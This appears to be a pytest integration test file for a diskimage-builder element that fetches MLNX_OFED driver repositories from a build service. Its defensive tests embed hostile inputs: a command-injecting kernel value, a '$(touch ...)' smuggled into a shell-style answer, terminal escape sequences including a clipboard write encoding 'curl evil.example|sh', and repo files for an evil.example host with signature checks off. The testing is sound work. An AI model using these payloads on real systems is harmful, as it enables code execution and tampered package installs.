"""The DIB element ``ofedrepo-mlnx-ofed``, run for real: DIB's own ``dib-run-parts`` runs its phases inside a
debootstrapped chroot (rpm, dnf, curl) whose rpm database holds two kernel packages, against the running
server and the synthetic bundle. The element asks for the newest kernel's repo, waits for the build while
printing its log, installs the package list from the version it got and removes the repo definition.
"""

import re
import shutil
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import httpx
import pytest

from synthetic.bundle import make_kernel_sources
from tests.conftest import TARGET_KERNEL, RunningServer, start_server, stop_server
from tests.integration.test_pipeline import ENDED, module_vermagic, wait_for
from tests.support.build_chroot import make_build_chroot, make_kernel_package, run_in_chroot, run_phase, stage_hooks

ELEMENT = Path(__file__).parents[2] / "elements" / "ofedrepo-mlnx-ofed"
#: Older in rpm's order than TARGET_KERNEL, newer in `sort -V`'s: the element must not boot the wrong one.
OLDER_KERNEL = "4.18.0-372.el8.x86_64"
BROKEN_KERNEL = "4.18.0-372.98.1.el8_6.x86_64"
SLOW_KERNEL = "4.18.0-372.97.1.el8_6.x86_64"
COMPILER_ERROR = "drivers/infiniband/core/cma.c:77:3: error: 'RDMA_CM_EVENT_ADDR_ERROR' undeclared"
TOKEN = "element-test-token"
REPO_FILE = "etc/yum.repos.d/ofedrepo-mlnx-ofed.repo"


@pytest.fixture(scope="module")
def build_root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make_build_chroot(tmp_path_factory.mktemp("dib-chroot") / "root", [OLDER_KERNEL, TARGET_KERNEL])


@pytest.fixture(scope="module")
def hooks(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return stage_hooks([ELEMENT], tmp_path_factory.mktemp("dib-hooks") / "hooks")


@pytest.fixture(scope="module")
def service(tmp_path_factory: pytest.TempPathFactory, bundle_tgz: Path) -> Iterator[RunningServer]:
    root = tmp_path_factory.mktemp("element-service")
    sources = root / "kernels"
    make_kernel_sources(sources, TARGET_KERNEL)
    make_kernel_sources(sources, BROKEN_KERNEL, compile_error=COMPILER_ERROR)
    make_kernel_sources(sources, SLOW_KERNEL, build_seconds=8)
    environment = {
        "OFEDREPO_KERNEL_SOURCES_ROOT": str(sources),
        "OFEDREPO_API_TOKENS": TOKEN,
        "OFEDREPO_QUEUE_POLL_INTERVAL": "0.2",
    }
    running = start_server(root / "var", root / "serve.log", environment, worker=True)
    try:
        with bundle_tgz.open("rb") as stream:
            uploaded = httpx.post(
                f"{running.url}/api/v1/bundles",
                files={"file": (bundle_tgz.name, stream)},
                headers={"Authorization": f"Bearer {TOKEN}"},
                timeout=300,
            )
        assert uploaded.status_code == 201, uploaded.text
        yield running
    finally:
        stop_server(running)


def element_environment(service: RunningServer, **extra: str) -> dict[str, str]:
    return {
        "DIB_OFEDREPO_URL": service.url,
        "DIB_OFEDREPO_TOKEN": TOKEN,
        "DIB_OFEDREPO_POLL_INTERVAL": "1",
        "DIB_OFEDREPO_WAIT": "300",
        **extra,
    }


def installed_modules(root: Path, kernel: str) -> list[Path]:
    return sorted((root / "lib" / "modules" / kernel).rglob("*.ko"))


def test_the_element_builds_for_the_newest_kernel_and_installs_its_modules(
    build_root: Path, hooks: Path, service: RunningServer
) -> None:
    ran = run_phase(build_root, hooks, "post-install", element_environment(service))
    output = ran.stdout + ran.stderr
    assert ran.returncode == 0, output
    assert f"kernel {TARGET_KERNEL} (the newest installed kernel package)" in output
    build_id = int(re.search(r"waiting for build (\d+)", output).group(1))  # type: ignore[union-attr]
    assert f"build {build_id}: running" in output and f"build {build_id}: succeeded" in output
    assert "mlnx_add_kernel_support.sh" in output  # the build log, streamed into DIB's output
    assert "version 1, gpgcheck=1" in output
    assert TOKEN not in output

    modules = installed_modules(build_root, TARGET_KERNEL)
    (mlx5,) = [module for module in modules if module.name == "mlx5_core.ko"]
    assert module_vermagic(mlx5) == TARGET_KERNEL
    assert installed_modules(build_root, OLDER_KERNEL) == []  # nothing for the kernel it does not boot
    assert not (build_root / REPO_FILE).exists()  # DIB_MLNX_OFED_DELETE_REPO defaults to y
    for package in ("mlnx-ofed-hpc", "mlnx-fw-updater"):  # the stock element's default list
        assert run_in_chroot(build_root, ["rpm", "-q", package]).returncode == 0, package


@pytest.mark.parametrize(
    ("kernel", "package_name", "uname_provide"),
    [("5.14.0-362.8.1.el9_3.x86_64+rt", "kernel-rt-core", "kernel-uname-r"),
     ("5.15.0-200.131.27.el8uek.x86_64", "kernel-uek-core", "kernel-uek-uname-r")],
    ids=["el9-rt", "uek"],
)  # fmt: skip
def test_a_flavoured_kernel_is_asked_for_as_it_boots(
    build_root: Path, hooks: Path, service: RunningServer, tmp_path: Path, kernel: str, package_name: str,
    uname_provide: str,
) -> None:  # fmt: skip
    """EL9's kernel-rt-core is 5.14.0-362.8.1.el9_3.x86_64 as a package and boots as ...+rt; Oracle's UEK names
    its release by ``kernel-uek-uname-r``: the element asks for what ``uname -r`` will say (what follows, a
    refusal or a failed build, is not this test's)."""
    package = make_kernel_package(tmp_path, kernel, package_name, uname_provide)
    shutil.copy(package, build_root / "tmp" / package.name)
    installed = run_in_chroot(build_root, ["rpm", "-i", "--nodeps", f"/tmp/{package.name}"])
    assert installed.returncode == 0, installed.stdout + installed.stderr
    try:
        environment = {**element_environment(service), "DIB_OFEDREPO_WAIT": "0"}
        ran = run_phase(build_root, hooks, "post-install", environment)
        output = ran.stdout + ran.stderr
        assert f"kernel {kernel} (the newest installed kernel package)" in output, output
    finally:
        assert run_in_chroot(build_root, ["rpm", "-e", "--nodeps", package_name]).returncode == 0
        (build_root / "tmp" / package.name).unlink()


def test_a_partition_image_asks_for_the_kernel_dib_extracts_for_it(
    build_root: Path, hooks: Path, service: RunningServer
) -> None:
    """With the baremetal element DIB extracts the kernel Ironic boots by ``ls -1rv /boot/vmlinuz*``
    (diskimage-builder's select_boot_kernel_initrd): of a GA kernel and its update, the GA one, which rpm's order
    would not pick; debug kernels never."""
    kernels = ["4.18.0-553.el8_10.x86_64", "4.18.0-553.5.1.el8_10.x86_64", "4.18.0-553.el8_10.x86_64+debug"]
    boot = build_root / "boot"
    boot.mkdir(exist_ok=True)
    for kernel in kernels:
        (boot / f"vmlinuz-{kernel}").write_bytes(b"")
    try:
        environment = {**element_environment(service), "DIB_OFEDREPO_WAIT": "0", "IMAGE_ELEMENT": "rocky baremetal"}
        ran = run_phase(build_root, hooks, "post-install", environment)
        output = ran.stdout + ran.stderr
        assert f"kernel {kernels[0]} (the one DIB extracts for this partition image" in output, output
    finally:
        for kernel in kernels:
            (boot / f"vmlinuz-{kernel}").unlink()


def test_a_published_kernel_is_answered_at_once_and_the_repo_pinned_to_its_version(
    build_root: Path, hooks: Path, service: RunningServer
) -> None:
    asked = httpx.post(
        f"{service.url}/api/v1/repos", json={"kernel": TARGET_KERNEL}, headers={"Authorization": f"Bearer {TOKEN}"}
    )
    if asked.status_code == 202:
        wait_for(service, asked.json()["build"]["id"], ENDED, timeout=300)
    pkglist = "mlnx-ofed-hypervisor mlnx-fw-updater"  # the seed article's list
    environment = element_environment(service, DIB_MLNX_OFED_DELETE_REPO="n", DIB_MLNX_OFED_PKGLIST=pkglist)
    ran = run_phase(build_root, hooks, "post-install", environment)
    output = ran.stdout + ran.stderr
    assert ran.returncode == 0, output
    assert "is published: version 1" in output and "waiting for build" not in output
    repo_file = (build_root / REPO_FILE).read_text()
    assert f"/{TARGET_KERNEL}/1/RPMS" in repo_file and "/latest/" not in repo_file
    assert "gpgcheck=1" in repo_file.splitlines()
    assert run_in_chroot(build_root, ["rpm", "-q", "mlnx-ofed-hypervisor"]).returncode == 0
    (build_root / REPO_FILE).unlink()


def test_a_failed_build_fails_the_image_build_with_the_compiler_error(
    build_root: Path, hooks: Path, service: RunningServer
) -> None:
    ran = run_phase(build_root, hooks, "post-install", element_environment(service, DIB_OFEDREPO_KERNEL=BROKEN_KERNEL))
    assert ran.returncode != 0
    assert COMPILER_ERROR in ran.stdout  # streamed from the build log while it ran
    assert re.search(r"ERROR: build \d+ failed: .*error: 'RDMA_CM_EVENT_ADDR_ERROR' undeclared", ran.stderr), ran.stderr
    assert installed_modules(build_root, BROKEN_KERNEL) == []


def test_a_build_longer_than_the_wait_fails_the_image_build_and_goes_on_on_the_server(
    build_root: Path, hooks: Path, service: RunningServer
) -> None:
    extra = {"DIB_OFEDREPO_KERNEL": SLOW_KERNEL, "DIB_OFEDREPO_WAIT": "2"}
    ran = run_phase(build_root, hooks, "post-install", element_environment(service, **extra))
    assert ran.returncode != 0
    found = re.search(r"ERROR: build (\d+) is still (?:queued|running) after 2 s \(DIB_OFEDREPO_WAIT\)", ran.stderr)
    assert found, ran.stderr
    assert wait_for(service, int(found.group(1)), ENDED, timeout=120)["state"] == "succeeded"


@pytest.mark.parametrize(
    ("extra", "reason"),
    [
        ({"DIB_OFEDREPO_KERNEL": "5.14.0-70.13.1.el9_0.x86_64"}, '(HTTP 422): {"detail":"no MLNX_OFED bundle'),
        ({"DIB_OFEDREPO_TOKEN": "wrong"}, "(HTTP 403)"),
        ({"DIB_OFEDREPO_KERNEL": "4.18.0'); os.exit(0) --"}, "DIB_OFEDREPO_KERNEL is not a kernel release"),
        ({"DIB_OFEDREPO_URL": "ftp://example.invalid"}, "must be an http:// or https:// URL"),
    ],
)
def test_a_refusal_fails_the_image_build_saying_why(
    build_root: Path, hooks: Path, service: RunningServer, extra: dict[str, str], reason: str
) -> None:
    ran = run_phase(build_root, hooks, "post-install", element_environment(service, **extra))
    assert ran.returncode != 0
    assert reason in ran.stderr, ran.stderr


#: A fake service's answers, by method and path (query included): status, headers, body.
Answers = dict[tuple[str, str], tuple[int, dict[str, str], bytes]]


class FakeService:
    """A stand-in for the service that answers what a hostile or broken one could, and records what it was asked."""

    def __init__(self, answers: Answers) -> None:
        self.answers = answers
        self.asked: list[str] = []
        service = self

        class Handler(BaseHTTPRequestHandler):
            def _answer(self) -> None:
                self.rfile.read(int(self.headers.get("Content-Length") or 0))
                service.asked.append(f"{self.command} {self.path}")
                status, headers, body = service.answers.get((self.command, self.path), (404, {}, b"{}"))
                self.send_response(status)
                for name, value in {**headers, "Content-Length": str(len(body))}.items():
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = _answer

            def log_message(self, format: str, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"

    def __enter__(self) -> "FakeService":
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *_: object) -> None:
        self.server.shutdown()
        self.server.server_close()


def run_against(build_root: Path, hooks: Path, answers: Answers, **extra: str) -> tuple[FakeService, str, str]:
    with FakeService(answers) as fake:
        environment = {"DIB_OFEDREPO_URL": fake.url, "DIB_OFEDREPO_POLL_INTERVAL": "1", "DIB_OFEDREPO_WAIT": "30",
                       "DIB_OFEDREPO_KERNEL": TARGET_KERNEL, **extra}  # fmt: skip
        ran = run_phase(build_root, hooks, "post-install", environment)
    assert ran.returncode != 0, ran.stdout + ran.stderr
    return fake, ran.stdout, ran.stderr


REQUEST = ("POST", "/api/v1/repos?format=env")
OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"
TERMINAL_TRICKS = f"{OSC52}\x1b[2J\x1b]0;owned\x1b\\\x1b[8mhidden\x1b[0m\r\x9b31m\u009b1m\x00\x7f"


def test_what_the_server_sends_reaches_the_terminal_without_escape_sequences(build_root: Path, hooks: Path) -> None:
    log = f"compiling mlx5_core\n{TERMINAL_TRICKS}visible text\n\tindented line\n".encode()
    error = f"exited with status 1: cma.c:77:3: error {TERMINAL_TRICKS}undeclared\nsecond line"
    answers: Answers = {
        REQUEST: (202, {}, b"OFEDREPO_REPO_ID='1'\nOFEDREPO_BUILD_ID='2'\nOFEDREPO_BUILD_STATE='queued'\n"),
        ("GET", "/api/v1/builds/2/log?offset=0"): (
            200, {"X-Build-State": f"failed{OSC52}", "X-Log-Offset": str(len(log))}, log
        ),
        ("GET", "/api/v1/builds/2?format=env"): (
            200, {}, f"OFEDREPO_BUILD_STATE='failed'\nOFEDREPO_ERROR='{error}'\n".encode()
        ),
    }  # fmt: skip
    _, stdout, stderr = run_against(build_root, hooks, answers)
    for output in (stdout, stderr):
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\x80-\x9f]", output), repr(output)
    assert "visible text\n\tindented line" in stdout and "hidden" in stdout
    assert "build 2: failed" in stdout
    assert "ERROR: build 2 failed: exited with status 1: cma.c:77:3: error " in stderr
    assert "undeclared\nsecond line" in stderr


#: A ``.repo`` file section that dnf would read with signature checks on.
CHECKED = "[mlnx-ofed]\nname=MLNX_OFED\nbaseurl=http://127.0.0.1:9/RPMS\ngpgcheck=1\ngpgkey=http://127.0.0.1:9/KEY\n"


@pytest.mark.parametrize(
    "repo_file",
    [
        CHECKED + "\n[extra]\nname=extra\nbaseurl=http://evil.example/RPMS\ngpgcheck=0\n",
        CHECKED + "\n[extra]\nname=extra\nbaseurl=http://evil.example/RPMS\n",
        CHECKED.replace("gpgcheck=1\n", "gpgcheck=1\ngpgcheck = 0\n"),
        "[extra]\nbaseurl=http://evil.example/RPMS\ngpgcheck=0\n\n" + CHECKED,
    ],
    ids=["second-section-off", "second-section-missing", "repeated-key-last-off", "first-section-off"],
)
def test_a_repo_file_with_any_section_without_gpgcheck_is_refused(
    build_root: Path, hooks: Path, repo_file: str
) -> None:
    answers: Answers = {
        REQUEST: (200, {}, b"OFEDREPO_REPO_ID='1'\nOFEDREPO_VERSION='3'\n"),
        ("GET", "/api/v1/repos/1/repofile?version=3"): (200, {}, repo_file.encode()),
    }
    _, _, stderr = run_against(build_root, hooks, answers)
    assert "does not say gpgcheck=1 in every section" in stderr, stderr
    assert not (build_root / REPO_FILE).exists()


def test_the_env_answer_is_parsed_by_its_quoting_not_by_lines(build_root: Path, hooks: Path) -> None:
    """A value spanning lines holds a line that looks like a field: it is part of the value, not a field."""
    answer = (
        "OFEDREPO_REPO_ID='1'\n"
        "OFEDREPO_KERNEL='4.18.0 it'\\''s\nOFEDREPO_VERSION=666 $(touch /tmp/ran)'\n"
        "OFEDREPO_VERSION='3'\n"
    )
    answers: Answers = {
        REQUEST: (200, {}, answer.encode()),
        ("GET", "/api/v1/repos/1/repofile?version=3"): (200, {}, b"[a]\ngpgcheck=0\n"),
    }
    fake, stdout, stderr = run_against(build_root, hooks, answers)
    assert "repo 1 is published: version 3" in stdout, stdout + stderr
    assert "GET /api/v1/repos/1/repofile?version=3" in fake.asked
    assert not (build_root / "tmp" / "ran").exists()
